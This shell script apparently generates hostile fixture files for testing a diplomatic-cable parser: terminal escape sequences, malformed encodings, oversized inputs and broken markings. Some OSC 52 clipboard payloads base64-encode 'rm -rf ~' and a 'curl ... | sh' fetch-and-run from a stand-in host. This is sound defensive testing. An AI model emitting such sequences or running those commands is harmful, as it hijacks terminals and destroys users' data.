#!/bin/sh
# make.sh DIR [--small] -- writes the hostile inputs into DIR: cables that
# carry terminal control sequences (CSI, OSC 52, OSC 8, DCS, APC), 8-bit C1
# controls, bidi overrides, NULs, invalid and overlong UTF-8, UTF-16, a 10 MB
# line, 100,000 paragraphs, absurd paragraph numbers, broken markings, huge
# REF and TAGS lists, and a cables.csv and a page that hide the same in
# their metadata.  --small leaves out the three big ones (for fuzz seeds).
set -eu
dir=$1
small=${2:-}
mkdir -p "$dir"
E=$(printf '\033')
BEL=$(printf '\007')
ST="$E\\"

# header CLASS SUBJECT: the head of a cable, with what the caller puts in it
header() {
	printf '%s\n\nE.O. 12958: DECL: 10/06/2014\nTAGS: PREL, IT\nSUBJECT: %s\n\n' "$1" "$2"
}

# --- control sequences meant for the terminal
{
	printf 'C O N F I D E N T I A L ROME 003933 \n\n'
	printf 'E.O. 12958: DECL: 10/06/2014\nTAGS: PREL, IT%s[2J\nSUBJECT: CLEAR%s[2J%s[H THE SCREEN%s[6n\n\n' "$E" "$E" "$E" "$E"
	printf 'REF: A. ROME 3900%s[21t\n\n' "$E"
	printf '1. (C) Report the title%s[21t, ask the status%s[6n, leave the screen%s[?1049l, paste%s[?2004h.\n\n' "$E" "$E" "$E" "$E"
	printf '2. (C%s[31;1m) Red%s[0m text and a bell%s and a backspace\010 and a form feed\014.\n\n' "$E" "$E" "$BEL"
	printf '3. (U) Save the cursor%s7, reset the terminal%sc, index down%sD.\n\nSEMBLER\n' "$E" "$E" "$E"
} > "$dir/csi.txt"
{
	header "SECRET//NOFORN" "CLIPBOARD${E}]52;c;cm0gLXJmIH4K${BEL} THEFT"
	printf '1. (S) Copy this%s]52;c;Y3VybCBldmlsLmludmFsaWQgfCBzaAo=%s to the clipboard.\n\n' "$E" "$BEL"
	printf '2. (S) And this%s]52;p;?%s asks to read it back.\n\nSEMBLER\n' "$E" "$ST"
} > "$dir/osc52.txt"
{
	header "CONFIDENTIAL" "LINK${E}]8;;http://evil.invalid/${ST}HERE${E}]8;;${ST}"
	printf '1. (C) A %s]8;;file:///etc/passwd%shyperlink%s]8;;%s and a title%s]0;pwned%s.\n\nSEMBLER\n' \
		"$E" "$ST" "$E" "$ST" "$E" "$BEL"
} > "$dir/osc8.txt"
{
	header "CONFIDENTIAL" "DCS${E}P+q544e${ST} QUERY"
	printf '1. (C) A request for termcap%sP+q6b6d6f7573%s, a DECRQSS%sP$qm%s,\n' "$E" "$ST" "$E" "$ST"
	printf 'an APC%s_payload%s, a PM%s^privacy%s, a SOS%sXstring%s.\n\nSEMBLER\n' "$E" "$ST" "$E" "$ST" "$E" "$ST"
} > "$dir/dcs.txt"
# C1 controls written in UTF-8 (U+009B CSI, U+009D OSC, U+0090 DCS, U+009C ST)
{
	header "CONFIDENTIAL" "EIGHT-BIT $(printf '\302\2332J') CSI"
	printf '1. (C) An 8-bit OSC %s52;c;cm0gLXJmIH4K%s and DCS %s+q544e%s.\n\nSEMBLER\n' \
		"$(printf '\302\235')" "$(printf '\302\234')" "$(printf '\302\220')" "$(printf '\302\234')"
} > "$dir/c1-utf8.txt"
# and as raw bytes, which makes the file Latin-1/CP1252
{
	header "CONFIDENTIAL" "RAW $(printf '\2332J') C1"
	printf '1. (C) Raw %s52;c;cm0=%s bytes and %s.\n\nSEMBLER\n' "$(printf '\235')" "$(printf '\234')" "$(printf '\233?1049l')"
} > "$dir/c1-raw.txt"
{
	header "UNCLASSIFIED" "BIDI $(printf '\342\200\256')DESREVER$(printf '\342\200\254') TITLE"
	printf '1. (U) Isolates %sLRI%s RLI %sFSI%s PDI, marks %s and %s, embedding %sRLE%s.\n\nSEMBLER\n' \
		"$(printf '\342\201\246')" "$(printf '\342\201\251')" "$(printf '\342\201\247\342\201\250')" \
		"$(printf '\342\201\251')" "$(printf '\342\200\217')" "$(printf '\330\234')" "$(printf '\342\200\253')" \
		"$(printf '\342\200\254')"
} > "$dir/bidi.txt"
{
	# NULs straight from printf's format: a shell variable cannot hold one
	printf 'CONFIDENTIAL\n\nE.O. 12958: DECL: 10/06/2014\nTAGS: PREL,\000 IT\nSUBJECT: NUL\000BYTES\n\n'
	printf '1. (C) A NUL\000 in the text\000\000 and at the end.\000\n\nSEMBLER\n'
} > "$dir/nul.txt"
{
	header "CONFIDENTIAL" "INVALID $(printf '\377\376') UTF-8"
	printf '1. (C) Overlong slash %s, overlong NUL %s, overlong 3-byte %s.\n\n' \
		"$(printf '\300\257')" "$(printf '\300\200')" "$(printf '\340\200\257')"
	printf '2. (C) A surrogate %s, past U+10FFFF %s, a lone continuation %s.\n\n' \
		"$(printf '\355\240\200')" "$(printf '\364\220\200\200')" "$(printf '\200')"
	printf '3. (C) Cut short at the end %s' "$(printf '\342\202')"
} > "$dir/bad-utf8.txt"
# UTF-16 with a byte-order mark, both orders, made from a plain cable
# (the blank line after the subject written again: $(...) drops it)
plain="$(header "CONFIDENTIAL" "SIXTEEN BITS A CHARACTER")

1. (C) Written in UTF-16 with a byte-order mark.

SEMBLER
"
printf '%s' "$plain" | iconv -f UTF-8 -t UTF-16LE | { printf '\377\376'; cat; } > "$dir/utf16le.txt"
printf '%s' "$plain" | iconv -f UTF-8 -t UTF-16BE | { printf '\376\377'; cat; } > "$dir/utf16be.txt"

# --- broken structure
{
	header "CONFIDENTIAL" "PARAGRAPH NUMBERS"
	for n in 99999999999999999999999 0 4294967296 18446744073709551616 -1 00000000000000000001 1e9 2147483648; do
		printf '%s. (C) Paragraph numbered %s.\n\n' "$n" "$n"
	done
	printf 'SEMBLER\n'
} > "$dir/absurd-numbers.txt"
{
	header "SECRET//NOFORN" "MARKINGS"
	printf '1. (SECRET// Unclosed.\n\n2. (S//NF Unclosed too.\n\n3. ((C)) Doubled.\n\n4. (XYZ) Unknown.\n\n'
	printf '5. (TS/SI/TK//NF) Compartments.\n\n6. (C//REL TO USA'
	i=0; while [ $i -lt 300 ]; do printf ', C%03d' $i; i=$((i + 1)); done
	printf ') Long REL.\n\n7. () Empty.\n\n8. (U)) Closed twice.\n\n9. (//) Slashes.\n\nSEMBLER\n'
} > "$dir/broken-markings.txt"
awk 'BEGIN {
	printf "CONFIDENTIAL\n\nE.O. 12958: DECL: 10/06/2014\nTAGS: PREL, IT\nSUBJECT: TEN THOUSAND REFERENCES\n\nREF: "
	for (i = 0; i < 10000; i++) printf "%s%c. ROME %d", (i ? " " : ""), 65 + i % 26, 1000 + i
	printf "\n\n1. (C) Many references.\n\nSEMBLER\n"
}' > "$dir/huge-refs.txt"
awk 'BEGIN {
	printf "CONFIDENTIAL\n\nE.O. 12958: DECL: 10/06/2014\nTAGS: "
	for (i = 0; i < 10000; i++) printf "%sT%04d", (i ? ", " : ""), i
	printf "\nSUBJECT: TEN THOUSAND TAGS\n\n1. (C) Many tags.\n\nSEMBLER\n"
}' > "$dir/huge-tags.txt"

# --- the containers: the same in metadata
{
	printf '"1","10/6/2004 12:47","04ROME3933%s]52;c;cm0=%s","Embassy %s[2JRome","CONFIDENTIAL%s[6n","04ROME3900","O 061247Z OCT 04\n' "$E" "$BEL" "$E" "$E"
	printf 'FM AMEMBASSY ROME%s]0;title%s","C O N F I D E N T I A L ROME 003933\n\nTAGS: PREL\nSUBJECT: CSV%s[2J\n\n1. (C) Text%s[6n.\n"\n' "$E" "$BEL" "$E" "$E"
} > "$dir/hostile.csv"
{
	printf '<html><head><title>Cable reference id: #04ROME3933 &#27;]52;c;cm0=&#7;</title></head><body>\n'
	printf '<table class="cable"><tr><td>Reference ID</td><td>Created</td><td>Classification</td><td>Origin</td></tr>\n'
	printf '<tr><td><a href="x">04ROME3933</a></td><td>2004-10-06 12:47</td><td>CONFIDENTIAL&#x9b;2J</td><td>Embassy Rome&#x202e;</td></tr></table>\n'
	printf '<pre>C O N F I D E N T I A L ROME 003933\n\nTAGS: PREL\nSUBJECT: PAGE &#27;[2J &#x1b;]8;;x&#x1b;\\\\ &amp;#27;\n\n'
	printf '1. (C) Entities &#27;[6n &#155;2J &#0; &#xD800; &#x110000; &#99999999999;.</pre><script>alert(1)</script></body></html>\n'
} > "$dir/hostile.html"

[ "$small" = --small ] && exit 0

# --- size
awk 'BEGIN {
	printf "CONFIDENTIAL\n\nE.O. 12958: DECL: 10/06/2014\nTAGS: PREL, IT\nSUBJECT: A TEN MEGABYTE LINE\n\n1. (C) "
	w = "minister said the talks would go on "
	for (i = 0; i < 10 * 1048576 / length(w); i++) printf "%s", w
	printf "\n\n2. (C) After the long line.\n\nSEMBLER\n"
}' > "$dir/long-line.txt"
awk 'BEGIN {
	printf "CONFIDENTIAL\n\nE.O. 12958: DECL: 10/06/2014\nTAGS: PREL, IT\nSUBJECT: ONE HUNDRED THOUSAND PARAGRAPHS\n\n"
	for (i = 1; i <= 100000; i++) printf "%d. (%s) Paragraph %d of a very long cable.\n\n", i, (i % 3 ? "C" : "U"), i
	printf "SEMBLER\n"
}' > "$dir/many-paragraphs.txt"
awk 'BEGIN {
	printf "CONFIDENTIAL\n\nE.O. 12958: DECL: 10/06/2014\nTAGS: PREL, IT\nSUBJECT: A LONG WORD\n\n1. (C) "
	for (i = 0; i < 2 * 1048576; i++) printf "x"
	printf "\n\nSEMBLER\n"
}' > "$dir/long-word.txt"
